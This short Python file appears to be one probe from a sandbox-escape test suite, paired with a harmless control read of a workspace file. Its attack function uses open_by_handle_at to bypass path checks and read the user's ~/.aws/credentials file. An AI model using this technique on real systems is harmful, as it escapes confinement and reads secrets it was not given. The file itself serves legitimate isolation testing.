"""P14: opens by handle, which needs no path at all"""
from kit import *


def by_handle(w):
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", handle, 0, 128)
    mount = ctypes.c_int()
    path = memory(w.home / ".aws/credentials")
    syscall("name_to_handle_at", AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    root = os.open(w.work, os.O_RDONLY | os.O_DIRECTORY)
    return read_descriptor(syscall("open_by_handle_at", root, handle, os.O_RDONLY))


def attack(w):
    yield "open_by_handle_at", lambda: by_handle(w)


def twin(w):
    yield "read data of the workspace", lambda: read(w.work / "data.csv")
